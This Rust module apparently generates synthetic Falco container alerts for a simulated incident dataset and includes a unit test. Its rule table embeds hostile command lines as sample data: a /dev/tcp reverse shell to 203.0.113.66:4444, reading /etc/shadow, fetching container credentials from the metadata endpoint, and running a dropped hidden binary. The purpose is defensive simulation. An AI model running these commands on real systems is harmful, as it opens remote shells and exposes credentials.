//! Falco alerts from the sidecar in each task (`json_output: true`), one
//! JSON object per line, in files of up to 100,000 alerts. Half are about
//! the compromised tasks, the rest routine noise from any live task.

use super::output::Output;
use super::plan::{Plan, TaskPlan};
use super::Rng;
use crate::model::Source;
use serde_json::json;

/// Alerts per file.
const ALERTS_PER_FILE: u64 = 100_000;

/// Rule, priority, process, its parent, and the command line.
const RULES: [(&str, &str, &str, &str, &str); 6] = [
    (
        "Terminal shell in container",
        "Notice",
        "bash",
        "sh",
        "bash -i",
    ),
    (
        "Read sensitive file untrusted",
        "Warning",
        "cat",
        "bash",
        "cat /etc/shadow",
    ),
    (
        "Drop and execute new binary in container",
        "Critical",
        "kworkerd",
        "sh",
        "/tmp/.cache/kworkerd --quiet",
    ),
    (
        "Launch Package Management Process in Container",
        "Error",
        "apt-get",
        "sh",
        "apt-get install -y nmap",
    ),
    (
        "Redirect STDOUT/STDIN to Network Connection in Container",
        "Notice",
        "bash",
        "python3",
        "bash -c exec 3<>/dev/tcp/203.0.113.66/4444",
    ),
    (
        "Contact EC2 Instance Metadata Service From Container",
        "Notice",
        "curl",
        "sh",
        "curl -s http://169.254.170.2/v2/credentials",
    ),
];

fn alert(task: &TaskPlan, rng: &mut Rng, ns: i64) -> serde_json::Value {
    let (rule, priority, process, parent, command) = *rng.pick(&RULES);
    let when = chrono::DateTime::from_timestamp_nanos(ns);
    let pid = 100 + rng.below(60_000);
    let container = task.runtime_id(0);
    json!({
        "hostname": format!("ip-{}.ec2.internal", task.ip.replace('.', "-")),
        "output": format!(
            "{}: {priority} {rule} (user=root user_uid=0 process={process} pid={pid} parent={parent} \
             command={command} container_id={container} container_name=app)",
            when.format("%H:%M:%S%.9f")
        ),
        "priority": priority,
        "rule": rule,
        "source": "syscall",
        "tags": ["container", "process", "mitre_execution"],
        "time": when.format("%Y-%m-%dT%H:%M:%S%.9fZ").to_string(),
        "output_fields": {
            "evt.time": ns,
            "evt.type": "execve",
            "proc.cmdline": command,
            "proc.exepath": format!("/usr/bin/{process}"),
            "proc.name": process,
            "proc.pid": pid,
            "proc.pname": parent,
            "user.name": "root",
            "user.uid": 0,
            "container.id": container,
            "container.name": "app"
        }
    })
}

/// Writes `falco/alerts-NNNN.ndjson`: the plan's alerts in time order,
/// streamed line by line.
pub(super) fn write(plan: &Plan, out: &mut Output) -> anyhow::Result<()> {
    let total = plan.counts.falco;
    let mut rng = Rng::stream(plan.seed, 3);
    let mut index = 0;
    while index < total {
        let count = ALERTS_PER_FILE.min(total - index);
        let name = format!("falco/alerts-{:04}.ndjson", index / ALERTS_PER_FILE);
        out.write_with(&name, Source::Falco, count, |file| {
            for i in index..index + count {
                let ms = Plan::spread(i, total, 1, &mut rng);
                // Nanoseconds below the millisecond keep every alert's time distinct.
                let ns = ms * 1_000_000 + rng.below(1_000_000) as i64;
                let task = if rng.below(2) == 0 {
                    &plan.tasks[*rng.pick(&plan.compromised)]
                } else {
                    plan.task_alive_at(&mut rng, ms)
                };
                serde_json::to_writer(&mut *file, &alert(task, &mut rng, ns))?;
                file.write_all(b"\n")?;
            }
            Ok(())
        })?;
        index += count;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::super::plan::{time, WINDOW_START_MS};
    use super::super::GenOptions;
    use super::*;

    #[test]
    fn alerts_name_the_app_container_with_nanosecond_times() {
        let options = GenOptions {
            events: 1_000,
            tasks: None,
            seed: 3,
        };
        let plan = Plan::new(&options).unwrap();
        let task = &plan.tasks[0];
        let value = alert(
            task,
            &mut Rng::stream(1, 1),
            WINDOW_START_MS * 1_000_000 + 123,
        );
        assert_eq!(value["output_fields"]["container.id"], task.runtime_id(0));
        let second = time(WINDOW_START_MS).format("%Y-%m-%dT%H:%M:%S");
        assert_eq!(value["time"], format!("{second}.000000123Z"));
    }
}
